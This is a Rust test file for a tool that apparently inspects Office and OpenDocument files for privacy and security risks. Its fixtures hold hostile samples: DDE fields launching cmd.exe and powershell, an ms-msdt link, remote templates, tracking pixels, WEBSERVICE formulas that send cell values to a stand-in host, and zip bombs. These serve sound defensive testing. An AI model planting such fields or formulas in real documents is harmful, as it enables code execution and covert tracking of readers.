use super::*;
use std::io::Write;

/// A zip of `parts` (name, text), as an office program saves one.
pub(super) fn package(parts: &[(&str, &str)]) -> Vec<u8> {
    let parts: Vec<(&str, &[u8])> = parts.iter().map(|(n, t)| (*n, t.as_bytes())).collect();
    zip_of(&parts)
}

/// A zip of `parts` (name, bytes), as the zip writer writes it.
pub(super) fn zip_of(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    for (name, bytes) in parts {
        w.start_file(*name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(bytes).unwrap();
    }
    w.finish().unwrap().into_inner()
}

const RELS: &str = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";

pub(super) fn rels(items: &[(&str, &str, bool)]) -> String {
    let mut s = String::from(
        "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">",
    );
    for (i, (kind, target, external)) in items.iter().enumerate() {
        let mode = if *external {
            " TargetMode=\"External\""
        } else {
            ""
        };
        s.push_str(&format!(
            "<Relationship Id=\"rId{i}\" Type=\"{RELS}/{kind}\" Target=\"{target}\"{mode}/>"
        ));
    }
    s + "</Relationships>"
}

#[test]
fn a_remote_template_is_fetched_and_hyperlinks_are_not() {
    let settings = rels(&[
        ("attachedTemplate", "https://203.0.113.9/t.dotm", true),
        ("hyperlink", "https://example.org/", true),
        ("image", "media/image1.png", false),
    ]);
    let doc = package(&[
        ("[Content_Types].xml", "<Types/>"),
        ("word/_rels/settings.xml.rels", &settings),
        ("word/document.xml", "<w:document xmlns:w=\"w\"/>"),
    ]);
    let r = inspect("docx", &doc).unwrap();
    assert_eq!(
        r.fetched,
        [(
            "attachedTemplate".to_string(),
            "https://203.0.113.9/t.dotm".to_string()
        )]
    );
    assert!(r.local.is_empty() && r.people.is_empty() && !r.comments);
}

#[test]
fn where_targets_lead() {
    for t in [
        "https://x.org/a",
        "\\\\fileserver\\templates\\t.dotx",
        "file://fileserver/share/t.dotx",
        "//host/x",
        "mhtml:https://x/a!b",
        "ms-msdt:/id PCWDiagnostic",
    ] {
        assert_eq!(remote(t), Some(true), "{t}");
    }
    for t in [
        "file:///C:\\Users\\amina\\AppData\\Roaming\\Microsoft\\Templates\\Normal.dotm",
        "file:///home/amina/t.ott",
        "C:\\Users\\amina\\Pictures\\logo.png",
        "/Users/amina/logo.png",
        "file://localhost/C:/x.dotx",
    ] {
        assert_eq!(remote(t), Some(false), "{t}");
    }
    for t in [
        "Normal.dotm",
        "media/image1.png",
        "../Pictures/x.png",
        "#bookmark",
    ] {
        assert_eq!(remote(t), None, "{t}");
    }
}

#[test]
fn authors_comments_changes_and_macros_are_found() {
    let core = "<cp:coreProperties xmlns:cp=\"c\" xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:creator>Amina Yusuf</dc:creator><cp:lastModifiedBy>jdoe</cp:lastModifiedBy></cp:coreProperties>";
    let body = "<w:document xmlns:w=\"w\"><w:body><w:p><w:ins w:id=\"1\" w:author=\"Reviewer A\"><w:r><w:t>new</w:t></w:r></w:ins></w:p></w:body></w:document>";
    let comments = "<w:comments xmlns:w=\"w\"><w:comment w:id=\"0\" w:author=\"jdoe\"><w:p/></w:comment></w:comments>";
    let doc = package(&[
        ("docProps/core.xml", core),
        ("word/document.xml", body),
        ("word/comments.xml", comments),
        ("word/vbaProject.bin", "\u{1}"),
    ]);
    let r = inspect("docx", &doc).unwrap();
    assert_eq!(r.people, ["Amina Yusuf", "jdoe", "Reviewer A"]);
    assert!(r.comments && r.tracked_changes);
    assert_eq!(r.macros, ["`word/vbaProject.bin`"]);
}

#[test]
fn an_empty_comments_part_and_empty_properties_say_nothing() {
    let doc = package(&[
        (
            "docProps/core.xml",
            "<cp:coreProperties xmlns:cp=\"c\" xmlns:dc=\"d\"><dc:creator></dc:creator></cp:coreProperties>",
        ),
        ("word/comments.xml", "<w:comments xmlns:w=\"w\"/>"),
        (
            "word/document.xml",
            "<w:document xmlns:w=\"w\"><w:body/></w:document>",
        ),
    ]);
    assert_eq!(inspect("docx", &doc).unwrap(), Report::default());
}

#[test]
fn opendocument_links_macros_and_creators() {
    let content = "<office:document-content xmlns:office=\"o\" xmlns:draw=\"d\" xmlns:xlink=\"http://www.w3.org/1999/xlink\" xmlns:text=\"t\"><office:body><text:p><text:a xlink:href=\"https://example.org/\">a link</text:a><draw:frame><draw:image xlink:href=\"https://tracker.example/p.png\"/></draw:frame><draw:frame><draw:image xlink:href=\"Pictures/1.png\"/></draw:frame><office:annotation><text:p>check this</text:p></office:annotation></text:p><text:tracked-changes><text:changed-region text:id=\"c1\"/></text:tracked-changes></office:body></office:document-content>";
    let meta = "<office:document-meta xmlns:office=\"o\" xmlns:meta=\"m\" xmlns:dc=\"dc\"><office:meta><meta:initial-creator>Amina Yusuf</meta:initial-creator><dc:creator>jdoe</dc:creator></office:meta></office:document-meta>";
    let doc = package(&[
        ("mimetype", "application/vnd.oasis.opendocument.text"),
        ("content.xml", content),
        ("meta.xml", meta),
        ("Basic/Standard/Module1.xml", "<x/>"),
    ]);
    let r = inspect("odt", &doc).unwrap();
    assert_eq!(
        r.fetched,
        [(
            "image".to_string(),
            "https://tracker.example/p.png".to_string()
        )]
    );
    assert_eq!(r.people, ["Amina Yusuf", "jdoe"]);
    assert_eq!(r.macros, ["`Basic/Standard/Module1.xml`"]);
    assert!(r.comments && r.tracked_changes);
}

#[test]
fn what_cannot_be_checked_says_why() {
    assert!(
        inspect("docx", b"not a zip")
            .unwrap_err()
            .contains("cannot be read as a zip")
    );
    let dtd = package(&[(
        "word/_rels/document.xml.rels",
        "<!DOCTYPE r [<!ENTITY a \"aaaa\">]><Relationships>&a;</Relationships>",
    )]);
    assert!(
        inspect("docx", &dtd)
            .unwrap_err()
            .contains("declares a DTD")
    );
}

/// A part that inflates past the cap stops there: a zip bomb costs
/// `PART_CAP` bytes, not what it claims.
#[test]
fn a_part_past_the_cap_is_refused() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let options = zip::write::SimpleFileOptions::default().large_file(true);
    w.start_file("word/document.xml", options).unwrap();
    let block = vec![b' '; 1 << 20];
    for _ in 0..=(PART_CAP >> 20) {
        w.write_all(&block).unwrap();
    }
    let doc = w.finish().unwrap().into_inner();
    assert!(doc.len() < 1 << 20, "{}", doc.len());
    let e = inspect("docx", &doc).unwrap_err();
    assert!(e.contains(&format!("is over {} MB", PART_CAP >> 20)), "{e}");
}

/// Many parts each under the cap stop at the total: a zip of many bombs
/// costs `TOTAL_CAP` bytes.
#[test]
fn parts_past_the_total_are_refused() {
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let block = vec![b' '; PART_CAP as usize];
    for n in 0..=(TOTAL_CAP / PART_CAP) {
        let name = format!("word/_rels/part{n}.xml.rels");
        w.start_file(name, zip::write::SimpleFileOptions::default())
            .unwrap();
        w.write_all(b"<Relationships>").unwrap();
        w.write_all(&block[..block.len() - 40]).unwrap();
        w.write_all(b"</Relationships>").unwrap();
    }
    let doc = w.finish().unwrap().into_inner();
    let e = inspect("docx", &doc).unwrap_err();
    let said = format!("over {} MB together", TOTAL_CAP >> 20);
    assert!(e.contains(&said), "{e}");
}

/// A picture fetched at each opening from a header (a tracking pixel),
/// its field code split over runs as Word writes it; a DDE field; a
/// field with a local picture says nothing.
#[test]
fn fields_that_fetch_or_start_a_program_are_found() {
    let header = "<w:hdr xmlns:w=\"w\"><w:p>\
        <w:r><w:fldChar w:fldCharType=\"begin\"/></w:r>\
        <w:r><w:instrText xml:space=\"preserve\"> INCLUDEPICTURE  \"https://track</w:instrText></w:r>\
        <w:r><w:instrText>er.example/p.png?u=1&amp;d=2\" \\d </w:instrText></w:r>\
        <w:r><w:fldChar w:fldCharType=\"separate\"/></w:r><w:r><w:t>x</w:t></w:r>\
        <w:r><w:fldChar w:fldCharType=\"end\"/></w:r>\
        <w:fldSimple w:instr=\"INCLUDEPICTURE &quot;\\\\\\\\fileserver\\\\logo.png&quot;\"/>\
        <w:fldSimple w:instr=\"INCLUDEPICTURE media/logo.png\"/>\
        <w:fldSimple w:instr=\" DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe &quot;/k calc&quot; \"/>\
        </w:p></w:hdr>";
    let doc = package(&[("word/header1.xml", header)]);
    let r = inspect("docx", &doc).unwrap();
    assert_eq!(
        r.fetched,
        [
            (
                "INCLUDEPICTURE field".to_string(),
                "https://tracker.example/p.png?u=1&d=2".to_string()
            ),
            (
                "INCLUDEPICTURE field".to_string(),
                "\\\\fileserver\\logo.png".to_string()
            ),
        ]
    );
    assert_eq!(r.macros.len(), 1, "{:?}", r.macros);
    assert!(
        r.macros[0].starts_with("a DDEAUTO field (`DDEAUTO c:"),
        "{:?}",
        r.macros
    );
}

#[test]
fn excel_dde_links_and_web_queries_are_found() {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let dde = format!(
        "<externalLink xmlns=\"{main}\"><ddeLink ddeService=\"cmd\" ddeTopic=\"/c calc\"><ddeItems><ddeItem name=\"A0\" advise=\"1\"/></ddeItems></ddeLink></externalLink>"
    );
    let web = format!(
        "<connections xmlns=\"{main}\"><connection id=\"1\" name=\"q\" type=\"4\" refreshOnLoad=\"1\"><webPr url=\"https://203.0.113.9/q\"/></connection><connection id=\"2\" name=\"o\" odcFile=\"\\\\server\\share\\q.odc\"/></connections>"
    );
    let bytes = package(&[
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/externalLinks/externalLink1.xml", &dde),
        ("xl/connections.xml", &web),
    ]);
    let r = inspect("xlsx", &bytes).unwrap();
    assert_eq!(r.macros, ["a DDE link (`cmd|/c calc`)"]);
    assert_eq!(
        r.fetched,
        [
            ("web query".to_string(), "https://203.0.113.9/q".to_string()),
            (
                "data connection".to_string(),
                "\\\\server\\share\\q.odc".to_string()
            )
        ]
    );
}

#[test]
fn opendocument_dde_links_are_found() {
    let content = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><table:dde-links><table:dde-link><office:dde-source office:dde-application=\"cmd\" office:dde-topic=\"/c calc\" office:dde-item=\"A0\"/></table:dde-link></table:dde-links><text:dde-connection-decls><text:dde-connection-decl text:name=\"x\" office:dde-application=\"powershell\" office:dde-topic=\"-c x\" office:dde-item=\"y\"/></text:dde-connection-decls></office:body></office:document-content>";
    let bytes = package(&[
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content),
    ]);
    let r = inspect("ods", &bytes).unwrap();
    assert_eq!(
        r.macros,
        [
            "a DDE link (`cmd|/c calc`)",
            "a DDE link (`powershell|-c x`)"
        ]
    );
}

/// LibreOffice's conditional formats and validity rules hold formulas in
/// attributes, worked out as the sheet is drawn or edited.
#[test]
fn opendocument_rules_that_fetch_are_found() {
    let content = "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\" xmlns:calcext=\"urn:org:documentfoundation:names:experimental:calc:xmlns:calcext:1.0\"><office:body><office:spreadsheet><table:content-validations><table:content-validation table:name=\"val1\" table:condition=\"of:cell-content-is-in-list(COM.MICROSOFT.WEBSERVICE(&quot;https://t.example/v&quot;))\"/></table:content-validations><table:table table:name=\"S\"><table:table-row><table:table-cell office:value-type=\"float\" office:value=\"3\"/></table:table-row><calcext:conditional-formats><calcext:conditional-format calcext:target-range-address=\"S.A1:S.A9\"><calcext:condition calcext:apply-style-name=\"Bad\" calcext:value=\"formula-is(ISNUMBER(COM.MICROSOFT.WEBSERVICE(&quot;https://t.example/c&quot;)))\" calcext:base-cell-address=\"S.A1\"/><calcext:condition calcext:apply-style-name=\"Good\" calcext:value=\"formula-is(A1&gt;2)\"/></calcext:conditional-format></calcext:conditional-formats></table:table></office:spreadsheet></office:body></office:document-content>";
    let bytes = package(&[
        ("mimetype", "application/vnd.oasis.opendocument.spreadsheet"),
        ("content.xml", content),
    ]);
    let r = inspect("ods", &bytes).unwrap();
    assert_eq!(r.fetching_cells.len(), 2, "{:?}", r.fetching_cells);
    assert!(
        r.fetching_cells
            .iter()
            .all(|c| c.starts_with("a formula in `content.xml` calls WEBSERVICE")),
        "{:?}",
        r.fetching_cells
    );
}

/// A phone photo's start: an EXIF block with a GPS directory.
pub(super) fn located_jpeg() -> Vec<u8> {
    let mut t = b"II\x2a\0\x08\0\0\0".to_vec();
    for (tag, ty, count, value) in [(0x8825u16, 4u16, 1u32, 26u32), (1, 2, 2, u32::from(b'N'))] {
        t.extend_from_slice(&1u16.to_le_bytes());
        t.extend_from_slice(&tag.to_le_bytes());
        t.extend_from_slice(&ty.to_le_bytes());
        t.extend_from_slice(&count.to_le_bytes());
        t.extend_from_slice(&value.to_le_bytes());
        t.extend_from_slice(&0u32.to_le_bytes());
    }
    let body = [b"Exif\0\0".as_slice(), &t].concat();
    let mut out = vec![0xFF, 0xD8, 0xFF, 0xE1];
    out.extend_from_slice(&(body.len() as u16 + 2).to_be_bytes());
    out.extend_from_slice(&body);
    out.extend_from_slice(&[0xFF, 0xDA, 0, 2, 0xFF, 0xD9]);
    out
}

#[test]
fn photos_that_say_where_they_were_taken_are_found() {
    let photo = located_jpeg();
    let plain = [&[0xFF, 0xD8][..], &photo[photo.len() - 6..]].concat();
    for (ext, folder) in [("docx", "word/media/"), ("odt", "Pictures/")] {
        let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
        let o = zip::write::SimpleFileOptions::default();
        w.start_file("content.xml", o).unwrap();
        w.write_all(b"<office:document-content xmlns:office=\"o\"/>")
            .unwrap();
        w.start_file(format!("{folder}image1.jpeg"), o).unwrap();
        w.write_all(&photo).unwrap();
        w.start_file(format!("{folder}image2.JPG"), o).unwrap();
        w.write_all(&plain).unwrap();
        let bytes = w.finish().unwrap().into_inner();
        let r = inspect(ext, &bytes).unwrap();
        assert_eq!(r.located, [format!("`{folder}image1.jpeg`")], "{ext}");
    }
}

#[test]
fn a_pdf_holding_a_located_photo_is_found() {
    let photo = located_jpeg();
    let mut pdf = b"%PDF-1.4\n1 0 obj\n<< /Type /XObject /Subtype /Image /Filter /DCTDecode /DecodeParms << /ColorTransform 0 >> /Length 60 >>\nstream\n".to_vec();
    pdf.extend_from_slice(&photo);
    pdf.extend_from_slice(b"\nendstream\nendobj\n%%EOF\n");
    assert_eq!(inspect("pdf", &pdf).unwrap().located, ["1 JPEG image"]);
    let plain = [&[0xFF, 0xD8, 0xFF, 0xDB, 0, 2][..], &[0xFF, 0xD9]].concat();
    let pdf = [
        &b"%PDF-1.4\n1 0 obj\n<< /Filter /DCTDecode >>\nstream\n"[..],
        &plain,
        b"\nendstream\nendobj\n",
    ]
    .concat();
    assert!(inspect("pdf", &pdf).unwrap().located.is_empty());
}

#[test]
fn photos_have_a_budget_of_their_own() {
    // More photos than all XML parts may inflate to together: still read.
    let photo = located_jpeg();
    let filler = vec![0u8; (1 << 20) - 1];
    let mut w = zip::ZipWriter::new(Cursor::new(Vec::new()));
    let o = zip::write::SimpleFileOptions::default();
    for i in 0..5 {
        w.start_file(format!("ppt/media/image{i}.png"), o).unwrap();
        w.write_all(&filler).unwrap();
    }
    w.start_file("ppt/media/image9.jpeg", o).unwrap();
    w.write_all(&photo).unwrap();
    w.start_file("ppt/slides/slide1.xml", o).unwrap();
    w.write_all(b"<p:sld xmlns:p=\"p\"/>").unwrap();
    let bytes = w.finish().unwrap().into_inner();
    let r = inspect("pptx", &bytes).unwrap();
    assert_eq!(r.located, ["`ppt/media/image9.jpeg`"]);
}

/// Cells' formulas that fetch (under Excel's `_xlfn.` prefix, in lower
/// case, through a shared formula's first cell), and Excel 4.0 macro
/// sheets; a formula that names such a function in its text alone is
/// refused too (a rare false alarm, but no way around the check).
#[test]
fn excel_formulas_that_fetch_and_macro_sheets_are_found() {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let sheet = format!(
        "<worksheet xmlns=\"{main}\"><sheetData><row r=\"1\"><c r=\"A1\"><f t=\"shared\" ref=\"A1:A9\" si=\"0\">_xlfn.image(\"https://203.0.113.9/p.png\")</f></c><c r=\"A2\"><f t=\"shared\" si=\"0\"/></c><c r=\"B1\"><f>SUM(A1:A2)</f></c></row></sheetData></worksheet>"
    );
    let bytes = package(&[
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/worksheets/sheet1.xml", &sheet),
        (
            "xl/macrosheets/sheet1.xml",
            "<xm:macrosheet xmlns:xm=\"x\"/>",
        ),
    ]);
    let r = inspect("xlsx", &bytes).unwrap();
    assert_eq!(
        r.fetching_cells,
        [
            "cell A1 of `xl/worksheets/sheet1.xml` calls IMAGE: `_xlfn.image(\"https://203.0.113.9/p.png\")`"
        ]
    );
    assert_eq!(r.macros, ["`xl/macrosheets/sheet1.xml`"]);
}

/// Excel works out a conditional format's and a data validation's rule as
/// it draws the sheet, and a table's calculated column as it calculates:
/// a `WEBSERVICE` there fetched on opening as a cell's does, and passed.
#[test]
fn excel_rules_and_calculated_columns_that_fetch_are_found() {
    let main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main";
    let sheet = format!(
        "<worksheet xmlns=\"{main}\" xmlns:x14=\"x14\" xmlns:xm=\"xm\"><sheetData><row r=\"1\"><c r=\"A1\"><f>SUM(B1:B2)</f></c></row></sheetData>\
         <conditionalFormatting sqref=\"A1:A9\"><cfRule type=\"expression\" priority=\"1\"><formula>LEN(WEBSERVICE(\"https://203.0.113.9/?c=\"&amp;A1))&gt;0</formula></cfRule></conditionalFormatting>\
         <conditionalFormatting sqref=\"C1\"><cfRule type=\"expression\"><formula>C1&gt;2</formula></cfRule></conditionalFormatting>\
         <dataValidations count=\"1\"><dataValidation type=\"list\" sqref=\"B2\"><formula1>FILTERXML(WEBSERVICE(\"https://203.0.113.9/l\"),\"//i\")</formula1></dataValidation></dataValidations>\
         <extLst><ext><x14:conditionalFormattings><x14:conditionalFormatting><x14:cfRule type=\"expression\"><xm:f>ISNUMBER(WEBSERVICE(\"https://203.0.113.9/x\"))</xm:f></x14:cfRule><xm:sqref>D1</xm:sqref></x14:conditionalFormatting></x14:conditionalFormattings></ext></extLst></worksheet>"
    );
    let table = format!(
        "<table xmlns=\"{main}\" id=\"1\" name=\"T\" ref=\"A1:B3\"><tableColumns count=\"2\"><tableColumn id=\"1\" name=\"Id\"/><tableColumn id=\"2\" name=\"Check\"><calculatedColumnFormula>WEBSERVICE(\"https://203.0.113.9/t?\"&amp;[@Id])</calculatedColumnFormula></tableColumn></tableColumns></table>"
    );
    let bytes = package(&[
        ("xl/workbook.xml", "<workbook/>"),
        ("xl/worksheets/sheet1.xml", &sheet),
        ("xl/tables/table1.xml", &table),
    ]);
    let r = inspect("xlsx", &bytes).unwrap();
    let at: Vec<&str> = r
        .fetching_cells
        .iter()
        .map(|c| c.split(" calls ").next().unwrap())
        .collect();
    assert_eq!(
        at,
        [
            "the rule for cells A1:A9 of `xl/worksheets/sheet1.xml`",
            "the rule for cells B2 of `xl/worksheets/sheet1.xml`",
            "a conditional format's or data validation's rule of `xl/worksheets/sheet1.xml`",
            "a table's calculated column of `xl/tables/table1.xml`",
        ],
        "{:?}",
        r.fetching_cells
    );
}

#[test]
fn mouse_overs_are_found_in_any_slide_part_by_their_relationship() {
    let layout = "<p:sldLayout xmlns:p=\"p\" xmlns:a=\"a\" xmlns:r=\"r\"><a:r><a:rPr><a:hlinkMouseOver r:id=\"rId0\"/></a:rPr></a:r><a:hlinkHover r:id=\"\" action=\"ppaction://hlinkshowjump?jump=nextslide\"/><a:hlinkClick r:id=\"rId1\"/></p:sldLayout>";
    let deck = package(&[
        ("ppt/slideLayouts/slideLayout1.xml", layout),
        (
            "ppt/slideLayouts/_rels/slideLayout1.xml.rels",
            &rels(&[
                ("hyperlink", "https://t.example/seen", true),
                ("hyperlink", "https://example.org/", true),
            ]),
        ),
    ]);
    let r = inspect("pptx", &deck).unwrap();
    let kind =
        "link followed when the pointer passes over it in `ppt/slideLayouts/slideLayout1.xml`";
    assert_eq!(
        r.fetched,
        [(kind.to_string(), "https://t.example/seen".to_string())]
    );
    assert!(r.macros.is_empty(), "{:?}", r.macros);
}

/// What Word's Document Inspector calls hidden content: a run of hidden
/// text, a slide's speaker notes, a very hidden sheet. A style that
/// hides text, a notes part with only its slide number, a visible sheet
/// and `w:val="0"` are none.
#[test]
fn hidden_content_is_named() {
    let hidden = "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:rPr><w:vanish/></w:rPr><w:t>The shelter is on Rue X.</w:t></w:r></w:p></w:body></w:document>";
    let shown = "<w:document xmlns:w=\"w\"><w:body><w:p><w:r><w:rPr><w:vanish w:val=\"0\"/></w:rPr><w:t>x</w:t></w:r></w:p></w:body></w:document>";
    let style = "<w:styles xmlns:w=\"w\"><w:style><w:rPr><w:vanish/></w:rPr></w:style></w:styles>";
    let r = inspect("docx", &package(&[("word/document.xml", hidden)])).unwrap();
    assert_eq!(r.hidden, ["hidden text"]);
    let r = inspect(
        "docx",
        &package(&[("word/document.xml", shown), ("word/styles.xml", style)]),
    )
    .unwrap();
    assert!(r.hidden.is_empty(), "{:?}", r.hidden);
    let notes = "<p:notes xmlns:p=\"p\" xmlns:a=\"a\"><a:p><a:r><a:t>Do not read the victim's name aloud.</a:t></a:r></a:p><a:fld><a:t>3</a:t></a:fld></p:notes>";
    let number_only = "<p:notes xmlns:p=\"p\" xmlns:a=\"a\"><a:fld><a:t>3</a:t></a:fld></p:notes>";
    let r = inspect(
        "pptx",
        &package(&[("ppt/notesSlides/notesSlide1.xml", notes)]),
    )
    .unwrap();
    assert_eq!(r.hidden, ["speaker notes"]);
    let r = inspect(
        "pptx",
        &package(&[("ppt/notesSlides/notesSlide1.xml", number_only)]),
    )
    .unwrap();
    assert!(r.hidden.is_empty());
    let book = |state: &str| {
        format!(
            "<workbook xmlns=\"x\"><sheets><sheet name=\"A\" sheetId=\"1\"/><sheet name=\"Cases\" sheetId=\"2\"{state}/></sheets></workbook>"
        )
    };
    let r = inspect(
        "xlsx",
        &package(&[("xl/workbook.xml", &book(" state=\"veryHidden\""))]),
    )
    .unwrap();
    assert_eq!(r.hidden, ["hidden sheets"]);
    let r = inspect("xlsx", &package(&[("xl/workbook.xml", &book(""))])).unwrap();
    assert!(r.hidden.is_empty());
}
